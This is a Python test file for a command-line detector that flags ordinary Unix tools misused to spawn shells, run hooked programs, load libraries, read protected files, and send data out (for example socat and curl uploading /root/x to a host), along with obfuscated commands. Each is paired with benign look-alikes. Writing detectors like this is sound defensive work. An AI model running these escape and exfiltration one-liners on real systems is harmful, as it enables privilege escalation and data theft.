"""What ordinary tools are made to do besides their job, and the neighbours of it that are their job."""

import shlex

import pytest

from pyloader.evidence import Group
from pyloader.evidence.commands import detours, handouts, hooks, transfers
from pyloader.host import Process
from tests.unit.evidence.stage import Stage


def _run(stage: Stage, line: str) -> Process:
    return stage.run(shlex.split(line), uid=1000)


@pytest.mark.parametrize(
    "line",
    [
        "timeout 7d /bin/sh",
        "nice -n 5 bash -i",
        "strace -f -o /tmp/t /bin/dash",
        "setarch x86_64 -R /bin/sh",
        "start-stop-daemon -S -x /bin/sh",
        "flock /tmp/l zsh",
        "stdbuf -oL /usr/bin/bash",
        "scrot --exec /bin/sh",
        "plymouth ask-for-password --command=/bin/sh",
        "cabal exec -- /bin/sh",
        "capsh --user=root --",
        "chroot / bash",
        "service ../../../bin/bash",
        "script -qc /bin/bash /dev/null",
    ],
)
def test_shell_as_operand(stage: Stage, line: str) -> None:
    """A tool that is given a bare shell to run has few honest users."""
    process = _run(stage, line)
    assert "shell_as_operand" in stage.codes(process)
    assert stage.score(process) < 50


@pytest.mark.parametrize(
    "line",
    [
        "timeout 5 /bin/sh script.sh",
        "nice -n 5 bash build.sh",
        "xargs -0 sh -c 'echo $1' _",
        "xargs du -sh",
        "xargs grep -li bin/ksh",
        "xargs grep -l bash",
        "env bash /srv/run.sh",
        "useradd -m -s /bin/bash eve",
        "objdump -d /bin/sh",
        "ssh -t host /bin/bash",
        "docker run -it --entrypoint /bin/sh alpine",
        "start-stop-daemon --start --startas /bin/sh -- -c 'find /var/cache'",
        "./configure --with-bash=/bin/bash --with-shell=/bin/sh",
        "chroot /mnt/target bash",
        "service ssh restart",
        "sudo xargs du -sh",
        "su www-data -s /bin/sh",
    ],
)
def test_shells_that_are_no_operands_to_run(stage: Stage, line: str) -> None:
    """A shell with a script, or the name of one, is ordinary, through `sudo` too."""
    words = shlex.split(line)
    assert "shell_as_operand" not in stage.codes(_run(stage, line))
    assert not {"privileged_wrapper", "privileged_escape"} & stage.codes(stage.sudo(words))


@pytest.mark.parametrize(
    "line",
    [
        "tar cf /dev/null /dev/null --checkpoint=9 --checkpoint-action=exec=id",
        "tar -xf a.tar --to-command=./x",
        "zip -q /tmp/z /etc/group -T -TT 'id #'",
        "rsync -e 'sh /tmp/x' a h:",
        "scp -S /tmp/x a b:",
        "ssh -o 'ProxyCommand=;id' x",
        "git -c core.pager='id' -p log",
        "git -c alias.z='!id' z",
        "man -P id man",
        "vim -c ':py3 import os' -c q",
        "nvim --cmd '!id'",
        "emacs -nw --eval '(shell-command \"id\")'",
        "gdb -nx -batch -ex 'shell id'",
        "mysql -e '\\! id'",
        "psql -c '\\! id'",
        "sqlite3 x .shell\\ id",
        "nmap --script=/tmp/x.nse h",
        "tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z /tmp/x",
        "split --filter='id' f",
        "sort --compress-program=/tmp/x f",
        "wget --use-askpass=/tmp/x http://h/",
        "make -s --eval='$(shell id)'",
        "rpm --eval '%{lua:os.execute(\"id\")}'",
        "gcc -wrapper /tmp/x a.c",
        "apt-get update -o APT::Update::Post-Invoke::=id",
        "dvips -R0 x.dvi",
        "busctl --address=unixexec:path=/tmp/x",
        "cpio -o --rsh-command=/tmp/x -F h:",
        "env PERL5DB='system id' perl -d",
        "env GIT_SSH_COMMAND='sh -c id' git fetch",
    ],
)
def test_program_by_an_option(stage: Stage, line: str) -> None:
    """Options that run a program of the caller's choice are told."""
    process = _run(stage, line)
    assert "program_hooked" in stage.codes(process)
    assert stage.score(process) < 50


@pytest.mark.parametrize(
    "line",
    [
        "tar -czf a.tgz dir",
        "tar -I pigz -cf a.tar.gz dir",
        "tar --use-compress-program=zstd -xf a",
        "zip -r a.zip dir",
        "rsync -e ssh a h:",
        "rsync -az -e 'ssh -p 2222 -i /home/u/.ssh/k' a h:",
        "scp -o ProxyCommand='ssh -W %h:%p jump' a h:",
        "ssh -S /tmp/control h",
        "git -c core.pager=cat log",
        "git -c core.hooksPath=/dev/null commit -m x",
        "git -c core.sshCommand='ssh -i k' fetch",
        "git --exec-path",
        "man -P cat ls",
        "vim -c 'set number' f",
        "vim +10 f",
        "gdb -batch -ex bt -ex quit ./a.out",
        "mysql -e 'select 1'",
        "psql -c 'select 1'",
        "sqlite3 x 'select 1'",
        "tcpdump -i eth0 -G 60 -w f -z gzip",
        "split -l 9 --filter='gzip > $FILE.gz' f",
        "sort --compress-program=gzip f",
        "make -j8 all",
        "rpm --eval '%{_topdir}'",
        "apt-get update -o Acquire::Retries=3",
        "run-parts --report /etc/cron.daily",
        "env PATH=/usr/bin make",
        "env PAGER=cat git log",
        "env EDITOR=vim crontab -e",
    ],
)
def test_options_of_the_job(stage: Stage, line: str) -> None:
    """Helpers that everybody uses, and other options of the same tools, say nothing."""
    assert not stage.codes(_run(stage, line))


@pytest.mark.parametrize(
    "line",
    [
        "ssh-keygen -D ./x/lib.so",
        "openssl req -engine /tmp/lib.so",
        "curl --engine /tmp/lib.so h",
        "mysql --default-auth ../../tmp/lib",
        "openvpn --plugin /tmp/lib.so",
        "python3 -c 'import ctypes; ctypes.cdll.LoadLibrary(\"/tmp/l.so\")'",
        'ruby -e \'require "fiddle"; Fiddle.dlopen("./l.so")\'',
    ],
)
def test_library_by_its_path(stage: Stage, line: str) -> None:
    """A tool that is told to load a library runs the code of who wrote it."""
    assert "library_named" in stage.codes(_run(stage, line))


@pytest.mark.parametrize(
    "line", ["ssh-keygen -t ed25519", "openssl req -new -key k", "gcc -o x x.c ./libx.so", "ldd /lib/libc.so.6"]
)
def test_libraries_of_the_job(stage: Stage, line: str) -> None:
    """Libraries that are linked or looked at are not loaded."""
    assert "library_named" not in stage.codes(_run(stage, line))


@pytest.mark.parametrize(
    "line",
    [
        "date -f /etc/gshadow",
        "file -f /root/x",
        "cmp /root/x /dev/zero -bl",
        "comm /root/x /dev/null",
        "grep '' /root/x",
        "awk // /root/x",
        "od -An -c -w9999 /root/x",
        "fold -w99999 /root/x",
        "head -c1T /root/x",
        "curl file:///root/x",
        "wget file:///root/x",
        "cmake -E cat /root/x",
        "whiptail --textbox /root/x 0 0",
        "dig -f /root/x",
        "as @/root/x",
        "ss -a -F /root/x",
        "ip -force -batch /root/x",
        "iconv -f 437 -t 437 /root/x",
        "tbl /root/x",
        "tic -C /root/x",
        "openssl enc -in /root/x -out /tmp/y",
        "sqlite3 /dev/null -cmd '.output /root/x' 'select 1'",
        "git apply --unsafe-paths --directory / p",
        "gdb -nx -ex 'dump value /root/x 1' -ex quit",
        "unzip -K s.zip",
        "wc --files0-from /root/x",
    ],
)
def test_file_by_a_detour(stage: Stage, line: str) -> None:
    """A file that passes for settings, a list, a pattern or one of two to compare is read by who may not read it."""
    process = _run(stage, line)
    assert "file_by_detour" in stage.codes(process)
    assert stage.score(process) < 50


@pytest.mark.parametrize(
    "line",
    [
        "date -d yesterday",
        "date +%s",
        "file /bin/ls",
        "cmp a b",
        "diff -u old.c new.c",
        "grep foo /var/log/syslog",
        "grep -rn TODO /srv",
        "awk '{print $1}' /etc/hosts",
        "sed -n 1,20p /etc/hosts",
        "od -An -tx1 f",
        "fold -w 80 f",
        "head -c 512 f",
        "tail -n 100 /var/log/syslog",
        "curl -fsSL https://h/f -o f",
        "cmake -E make_directory build",
        "dig +short h",
        "as -o x.o x.s",
        "ss -tlnp",
        "ip addr show",
        "iconv -f latin1 -t utf8 f",
        "openssl enc -aes-256-cbc -pbkdf2 -in f -out g",
        "git apply p.diff",
        "unzip -q a.zip",
        "cut -d ' ' -f 1 f",
        "sort -u f",
        "wc -l f",
        "strings /bin/ls",
        "screen -S build",
    ],
)
def test_files_of_the_job(stage: Stage, line: str) -> None:
    """Files that a tool reads because that is its job say nothing."""
    assert not stage.codes(_run(stage, line))


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("base64 /root/x", "base64 -d"),
        ("xxd /root/x", "xxd -r"),
        ("gzip -c /root/x", "gzip -d"),
        ("bzip2 -c /root/x", "bzip2 --decompress"),
        ("rev /root/x", "rev"),
        ("uuencode /root/x /dev/stdout", "uudecode"),
        ("tar cf - /root/x", "tar xO"),
        ("7z a -ttar -an -so /root/x", "7z e -ttar -si -so"),
    ],
)
def test_round_trip(stage: Stage, first: str, second: str) -> None:
    """What encodes a file only to decode it again wants to read it, whichever of the two starts first."""
    for order in (0, 1):
        pipe = stage.pipe()
        starts = [lambda: stage.run(first.split(), stdout=pipe), lambda: stage.run(second.split(), stdin=pipe)]  # noqa: B023
        told = [starts[place]() for place in (order, 1 - order)]
        assert any("round_trip" in stage.codes(process) for process in told)
        assert all(stage.score(process) < 50 for process in told)


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("rev names", "cut -d. -f1"),
        ("tar cf - dir", "tar xf - -C /srv"),
        ("base64", "base64 -d"),
        ("gzip -dc a.gz", "gzip -c"),
        ("cat f", "base64 -d"),
    ],
)
def test_pipelines_that_are_no_round_trips(stage: Stage, first: str, second: str) -> None:
    """Copies by tar, tests of an encoder and conversions are ordinary."""
    pipe = stage.pipe()
    told = [stage.run(first.split(), stdout=pipe), stage.run(second.split(), stdin=pipe)]
    assert not any("round_trip" in stage.codes(process) for process in told)


@pytest.mark.parametrize(
    ("line", "code"),
    [
        ("socat -u FILE:/root/x TCP:198.51.100.7:81", "sent_by_detour"),
        ("whois -h 198.51.100.7 -p 81 secret", "sent_by_detour"),
        ("finger secret@host.example", "sent_by_detour"),
        ("wget --post-file=/root/x http://h/", "uploaded"),
        ("curl -d @/root/x http://h/", "uploaded"),
        ("curl -F f=@/root/x http://h/", "uploaded"),
        ("socat -u TCP:198.51.100.7:81 CREATE:/tmp/x", "fetched_by_detour"),
        ("tftp 198.51.100.7", "fetched_by_detour"),
        ("php -S 0.0.0.0:8080", "files_served"),
        ("python3 -m http.server 8000", "files_served"),
        ("ruby -run -e httpd . -p 81", "files_served"),
        ("cp /bin/bash /tmp/ls", "shell_renamed"),
        ("ln -sf /bin/sh /srv/git-x", "shell_renamed"),
    ],
)
def test_transfers_and_names(stage: Stage, line: str, code: str) -> None:
    """Data that leaves or comes by an odd way, and shells under other names, are told."""
    process = _run(stage, line)
    assert code in stage.codes(process)
    assert stage.score(process) < 50


@pytest.mark.parametrize(
    "line",
    [
        "curl -d name=x http://h/",
        "curl -d @- http://h/",
        "curl -T f http://h/",
        "wget http://h/f",
        "finger eve",
        "whois example.com",
        "php artisan serve",
        "python3 -m venv /srv/x",
        "python3 -m pytest",
        "ruby -v",
        "cp /bin/ls /tmp/ls",
        "ln -s /usr/bin/dash /bin/sh",
        "socat - UNIX-CONNECT:/run/x",
    ],
)
def test_transfers_of_the_job(stage: Stage, line: str) -> None:
    """Ordinary requests and servers of applications say nothing."""
    assert not stage.codes(_run(stage, line))


@pytest.mark.parametrize(
    ("line", "code"),
    [
        ("perl -e 'print `id`; system(\"id\")'", "code_runs_program"),
        ("php -r 'echo shell_exec(\"id\");'", "code_runs_program"),
        ('node -e \'require("child_process").execSync("id")\'', "code_runs_program"),
        ('python3 -c \'import urllib.request as u; u.urlretrieve("http://h/x","x")\'', "code_talks"),
        ("php -r 'readfile(\"http://h/x\");'", "code_talks"),
        ('ruby -e \'require "net/ftp"; Net::FTP.open("h")\'', "code_talks"),
        ("python3 -c 'print(open(\"/root/x\").read())'", "code_handles_file"),
        ('lua -e \'io.open("/root/x", "w"):write(1)\'', "code_handles_file"),
        ("ruby -e 'File.write(\"/root/x\", 1)'", "code_handles_file"),
    ],
)
def test_what_a_one_liner_does(stage: Stage, line: str, code: str) -> None:
    """One-liners that run programs, use the network or handle files are told, far below an alarm."""
    process = _run(stage, line)
    assert stage.codes(process) == {code}
    assert stage.score(process) < 40


@pytest.mark.parametrize(
    "line",
    [
        "python3 -c 'import sys; print(sys.version)'",
        "perl -pe 's/a/b/' f",
        "ruby -e 'puts 1 + 1'",
        "node -p process.platform",
        "php -r 'echo 1;'",
        "lua -e 'print(1)'",
    ],
)
def test_one_liners_that_compute(stage: Stage, line: str) -> None:
    """One-liners that only compute say nothing."""
    assert not stage.codes(_run(stage, line))


@pytest.mark.parametrize(
    "code",
    [
        "echo 'exec /bin/sh 0<&2 1>&2' > x; chmod +x x",
        "printf '/bin/bash -i' | tee /tmp/x",
        "echo '/bin/sh <$(tty) >$(tty)' | at now",
        "echo '#!/bin/bash -p' >> x",
    ],
)
def test_planted_shell(stage: Stage, code: str) -> None:
    """Shell code that writes what opens a shell is told."""
    assert "shell_planted" in stage.codes(stage.run(["sh", "-c", code]))


@pytest.mark.parametrize(
    "code", ["echo '#!/bin/sh' > x", "echo SHELL=/bin/sh >> Makefile", "echo use /bin/sh please", "cat x | sh"]
)
def test_text_that_plants_no_shell(stage: Stage, code: str) -> None:
    """A first line of a script, a setting and a sentence open no shell."""
    assert "shell_planted" not in stage.codes(stage.run(["sh", "-c", code]))


def test_shell_that_keeps_rights(stage: Stage) -> None:
    """Only a set-uid shell needs to be told to keep its rights."""
    parent = stage.run(["bash"], uid=1000)
    assert "shell_keeps_rights" in stage.codes(stage.run(["bash", "-p"], parent))
    assert "shell_keeps_rights" not in stage.codes(stage.run(["bash", "-l"], parent))


def test_bare_shell_in_a_shell(stage: Stage) -> None:
    """A bare shell out of a shell weighs little, and none where a terminal opens it or a pipe feeds it."""
    parent = stage.run(["bash"], uid=1000)
    nested = stage.run(["zsh"], parent)
    assert stage.codes(nested) == {"nested_shell"}
    assert stage.score(nested) < 30
    assert not stage.codes(stage.run(["bash"], stage.run(["tmux"])))
    assert not stage.codes(stage.run(["sh"], parent, stdin=stage.pipe()))


@pytest.mark.parametrize(
    "line",
    [
        "strace -o /dev/null /bin/sh",
        "man -P id man",
        "date -f /root/x",
        "curl --engine /tmp/l.so x",
        "ruby -e 'File.read(\"x\")'",
    ],
)
def test_rights_of_others_weigh(stage: Stage, line: str) -> None:
    """The same arguments weigh more through `sudo`: there a tool does what its caller may not."""
    own = _run(stage, line)
    elevated = stage.sudo(shlex.split(line))
    assert stage.score(elevated) > stage.score(own)


def test_evidence_of_abilities_is_of_one_group(stage: Stage) -> None:
    """What the words of one command say in several ways is not added up."""
    _run(stage, "tar cf /dev/null x --checkpoint-action=exec=/bin/sh -I /bin/sh")
    assert {item.group for item in stage.last} == {Group.PROCESS}


@pytest.mark.parametrize(
    "code",
    ["w\\ho\\am\\i", "wh''oa''mi", "cat$IFS/etc/passwd", "cat${IFS}x", "${PATH:0:1}bin${PATH:0:1}id", "who$@ami"],
)
def test_words_taken_apart(stage: Stage, code: str) -> None:
    """Words that are written so as not to be found are told."""
    assert "scrambled_code" in stage.codes(stage.run(["sh", "-c", code]))


@pytest.mark.parametrize(
    "code",
    [
        "echo -e 'line1\\r\\nline2\\n'",
        "sed -r 's/([0-9]+)-([a-z]+)/\\2\\1/; s/\\s\\w//' f",
        "find . -printf '%p$IFS'",
        'IFS="$IFS_save"',
        "grep -P 'a\\sb\\sc' f",
        "printf 'a\\tb\\n'",
    ],
)
def test_escapes_in_quotes(stage: Stage, code: str) -> None:
    """Escapes that the command itself reads hide nothing."""
    assert "scrambled_code" not in stage.codes(stage.run(["sh", "-c", code]))


def test_patterns_have_bounded_repetitions() -> None:
    """No shape has a repetition of anything without a bound, which crafted arguments could make slow."""
    for tables in (detours, handouts, hooks, transfers):
        shapes = [shape for table in vars(tables).values() if isinstance(table, dict) for shape in table.values()]
        assert not [shape for shape in shapes if isinstance(shape, str) and (".*" in shape or ".+" in shape)]
